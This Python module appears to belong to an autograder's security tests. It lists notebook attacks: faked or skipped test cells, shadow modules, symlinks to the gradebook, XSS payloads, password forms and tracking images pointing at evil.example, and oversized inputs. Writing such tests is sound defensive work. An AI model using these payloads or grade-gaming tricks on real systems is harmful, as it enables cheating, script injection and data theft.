"""Attacks that need no code: cells, metadata, outputs and pages."""

from __future__ import annotations

import json
from typing import Any

from grader.instructor.demo.sample_class import find_cell, insert_before, remove_cell, repeat_cell

from .attack import (
    ASSIGNMENT,
    HE,
    POINTS,
    RANDOM,
    ZEROS,
    Attack,
    add_cell,
    change_metadata,
    change_test_metadata,
    change_tests,
    shown,
)

ALL = (ZEROS, RANDOM, HE)
ALERT = "<script>alert(1)</script>"
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
TEN = shown(text_plain="10")


def show(html: str) -> str:
    """A cell that shows some HTML."""
    return f"from IPython.display import HTML, display\ndisplay(HTML({html!r}))"


def page(html: str, name: str, stock: str) -> Attack:
    """HTML in an output, saved and made again, and the same in a Markdown cell; all answers are honest."""
    return Attack(
        name,
        stock,
        honest=ALL,
        edits=(
            add_cell(show(html), outputs=shown(text_html=html)),
            add_cell(html, "markdown", id="own-text"),
        ),
    )


def second_test_cell(notebook: dict[str, Any]) -> None:
    metadata = {"grade_id": "mine", "grade": True, "locked": True, "solution": False, "points": 100}
    add_cell("100", metadata={"nbgrader": {**metadata, "schema_version": 3, "cell_type": "code"}})(notebook)


def swap_names(notebook: dict[str, Any]) -> None:
    """The test of the honest function takes the place of the others."""
    worth = notebook["cells"][find_cell(notebook, f"check-{HE}")]
    easy = notebook["cells"][find_cell(notebook, f"check-{ZEROS}")]
    worth["source"] = easy["source"]
    worth["metadata"], easy["metadata"] = easy["metadata"], worth["metadata"]


def tests_become_text(notebook: dict[str, Any]) -> None:
    for name in POINTS:
        cell = notebook["cells"][find_cell(notebook, f"check-{name}")]
        cell["cell_type"] = "markdown"
        cell.pop("outputs"), cell.pop("execution_count")


def strange_counts(notebook: dict[str, Any]) -> None:
    for number, cell in enumerate(notebook["cells"]):
        if cell["cell_type"] == "code":
            cell["execution_count"] = (-1, 10**18)[number % 2]


ATTACKS = (
    Attack(
        "the tag skip-execution on the test cells",
        "full marks: a cell that is skipped has no output, and none counts as right",
        honest=(),
        edits=(change_test_metadata(tags=["skip-execution"]),),
    ),
    Attack(
        "10 points saved as the output of the test cells",
        "full marks, with the tag skip-execution",
        honest=(),
        edits=(change_tests(outputs=TEN), change_test_metadata(tags=["skip-execution"])),
    ),
    Attack(
        "other points in the metadata",
        "no more points: they come from its database",
        edits=(change_test_metadata(points=1000),),
    ),
    Attack(
        "test cells marked as answers, with a text of one's own",
        "that submission is not graded",
        edits=(change_tests(source="10"), change_test_metadata(solution=True, locked=False)),
    ),
    Attack(
        "test cells whose text is replaced",
        "no more points: it writes the text back",
        edits=(change_tests(source="print('checked')"),),
    ),
    Attack("test cells turned into Markdown", "no more points", edits=(tests_become_text,)),
    Attack(
        "a test cell of one's own with 100 points",
        "that submission is not graded",
        edits=(second_test_cell,),
    ),
    Attack("two test cells change places", "no more points: the text follows the name", edits=(swap_names,)),
    Attack(
        "one test cell twice",
        "ends the whole batch",
        edits=(repeat_cell(f"check-{HE}"),),
    ),
    Attack(
        "the test cell of the open exercise deleted",
        "no points for it",
        edits=(remove_cell(f"check-{HE}"),),
    ),
    Attack(
        "the locked imports replaced by a lying numpy",
        "no more points: it writes locked cells back",
        edits=(
            lambda notebook: notebook["cells"][find_cell(notebook, "imports")].update(
                source="check = lambda name: 10"
            ),
        ),
    ),
    Attack(
        "own cells tagged as experiments, so that they are not looked at",
        "runs them",
        edits=(
            add_cell("raise SystemExit", metadata={"tags": ["experiment"], "nbgrader": {"locked": True}}),
        ),
    ),
    Attack(
        "an answer cell twice, and the test cell between the two",
        "ends the whole batch",
        edits=(repeat_cell(HE), insert_before(f"check-{HE}", f"{HE} = lambda layers_dims: 1")),
    ),
    page(ALERT, "a script in an output", "the script runs in whoever opens the feedback or formgrader"),
    page(
        '<img src="x" onerror="alert(1)"><b onmouseover="alert(2)">grade me</b>',
        "a picture with a handler",
        "the handler runs in whoever opens the feedback or formgrader",
    ),
    page(
        '<svg onload="alert(1)"><script>alert(2)</script><style>@import "https://evil.example/x.css"</style></svg>'
        "<iframe srcdoc='<script>alert(3)</script>'></iframe><object data='https://evil.example'></object>"
        "<embed src='https://evil.example'><form action='https://evil.example'><input name='password'></form>"
        "<base href='https://evil.example'><meta http-equiv='refresh' content='0;https://evil.example'>"
        "<link rel='stylesheet' href='https://evil.example'>",
        "drawings, frames, forms and redirections",
        "all of them are in the feedback and in formgrader",
    ),
    page(
        '<a href="java\tscript:alert(1)">solution</a> <a href="&#106;avascript:alert(2)">x</a>'
        '<a href="da\tta:text/html,<script>alert(3)</script>">x</a> <blockquote cite="javascript:alert(4)">x</blockquote>'
        "<a href='vbscript:x'>x</a> [x](javascript:alert(5)) <math href='javascript:alert(6)'>x</math>",
        "links that are scripts",
        "they are in the feedback and in formgrader",
    ),
    page(
        '<img src="https://evil.example/1.png" srcset="https://evil.example/2.png">'
        '<p style="background:url(https://evil.example/3.png)">x</p><p style="cursor:u\\72l(//evil.example/4.cur),auto">x</p>'
        "<p style=\"background:image-set('https://evil.example/5.png' 1x)\">x</p>"
        "<video poster='//evil.example/6'></video><table background='https://evil.example/7'></table>"
        " ![x](https://evil.example/8.png)",
        "pictures that tell a server who reads the feedback",
        "the browser fetches them",
    ),
    page(
        '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9;background:white">20 of 20 points</div>'
        "<style>.score {display: none}</style><math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "a page over the page",
        "the feedback shows the learner's text in place of the score",
    ),
    page(
        "<div class='modal-backdrop'>20 of 20 points</div><nav class='navbar-fixed-top highlight'>20 of 20 points</nav>"
        f"<img src='data:image/png;base64,{PIXEL}' width='2000' height='2000' style='margin:-900px 0 0 0'>"
        f"<img src='data:image/png;base64,{PIXEL}' style='margin: calc(0px - 900px) 0 0;width:100%;height:900px'>"
        "<p style='margin:0 -.5em;padding:1em'>x</p>",
        "a page over the page by classes and negative margins",
        "the feedback shows the learner's text in place of the score",
    ),
    Attack(
        "scripts in the metadata of the notebook",
        "clears most of it after the run; what is left is escaped",
        honest=ALL,
        edits=(
            change_metadata(
                title=f"x</title>{ALERT}",
                language_info={"name": f'x">{ALERT}', "pygments_lexer": f'x">{ALERT}', "version": ALERT},
                widgets={
                    "application/vnd.jupyter.widget-state+json": {
                        "state": {"x": f"</script>{ALERT}"},
                        "version_major": 2,
                    }
                },
            ),
        ),
    ),
    Attack(
        "scripts in other places of cells",
        "some of them reach the feedback and formgrader",
        honest=ALL,
        edits=(
            add_cell("1", metadata={"name": ALERT, "magics_language": f'x">{ALERT}', "tags": [f'"{ALERT}']}),
            add_cell(ALERT, "raw", id="own-raw", metadata={"raw_mimetype": "text/html"}),
            add_cell(
                "![x](attachment:x.svg) $\\href{javascript:alert(1)}{\\text{x}}$ $<img src=x onerror=alert(2)>$",
                "markdown",
                id="own-attachment",
                attachments={"x.svg": {"image/svg+xml": f"<svg>{ALERT}</svg>"}},
            ),
            add_cell(
                "2",
                id="own-kinds",
                outputs=[
                    *shown(application_javascript="alert(1)", text_plain="x"),
                    *shown(**{"image_svg+xml": f"<svg>{ALERT}</svg>"}),
                    *shown(text_latex=f"$x$ {ALERT}"),
                    *shown(text_markdown=f"*x* {ALERT}"),
                    *shown(image_png=f'x" onerror="alert(1)">{ALERT}'),
                    *shown(**{"application_vnd.jupyter.widget-view+json": "{}"}),
                    {"output_type": "error", "ename": ALERT, "evalue": ALERT, "traceback": [ALERT]},
                    {"output_type": "stream", "name": f'x">{ALERT}', "text": ALERT},
                ],
            ),
        ),
    ),
    Attack(
        "a long line printed and saved",
        "50 MB in the autograded notebook and in the feedback: its limit counts lines",
        honest=ALL,
        edits=(
            add_cell(
                "print('x' * 50_000_000)",
                outputs=[{"output_type": "stream", "name": "stdout", "text": "x" * 8_000_000}],
            ),
        ),
    ),
    Attack(
        "cells that fail by the hundred, copies of a locked cell, and a name of a megabyte",
        "no more points; a page of megabytes",
        honest=ALL,
        edits=(
            *[add_cell("raise ValueError('x' * 1000)")] * 100,
            *[repeat_cell("imports")] * 100,
            add_cell("1", metadata={"nbgrader": {"grade_id": "x" * 10**6}}, id="own-long"),
        ),
    ),
    Attack(
        "texts that take hours to search",
        "takes hours to render them",
        honest=ALL,
        edits=(
            add_cell("# " + "#" * 200_000 + "x", "markdown", id="own-marks"),
            add_cell("# " + "[" * 200_000, "markdown", id="own-brackets"),
            add_cell("\\begin{a}" * 20_000, "markdown", id="own-latex"),
            add_cell("\\begin{a}" * 2_000, "markdown", id="own-short-latex"),
            add_cell("\n" * 200_000 + "1", id="own-lines"),
            add_cell("2", id="own-nest", outputs=shown(text_html="<div>" * 4000) * 20),
        ),
    ),
    Attack(
        "cells that ran a negative number of times, or a billion billions",
        "that submission is not graded, or has no feedback",
        honest=ALL,
        edits=(strange_counts,),
    ),
    Attack(
        "a time of submission that is none",
        "that submission is not graded",
        honest=ALL,
        files={"timestamp.txt": "before everybody else"},
        left_out="There was an error processing assignment",
    ),
    Attack(
        "modules of one's own beside the notebook",
        "the kernel starts there and imports them in place of the installed ones",
        files={
            "numpy.py": "raise SystemExit",
            "sitecustomize.py": "import os; os._exit(0)",
            "grader.py": "check = lambda name: 10",
            "nbgrader_config.py": "c = get_config()\nc.Autograde.autograde_preprocessors = []",
            "conftest.py": "raise SystemExit",
        },
    ),
    Attack(
        "other notebooks beside the notebook",
        "skips them",
        honest=ALL,
        files={
            "solution.ipynb": json.dumps({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}),
            "broken.ipynb": "{",
        },
    ),
    Attack(
        "links to the instructor's files beside the notebook",
        "follows them: copies the gradebook into the autograded folder",
        honest=ALL,
        links={"data.db": "@gradebook@", "other.txt": "@neighbour@"},
        left_out="a link to another file",
    ),
    Attack(
        "a link to another's submission in place of the notebook",
        "grades the other's work, and shows it in the feedback",
        honest=(),
        links={f"{ASSIGNMENT}.ipynb": "@neighbour@"},
        fails="a link to another file",
    ),
)
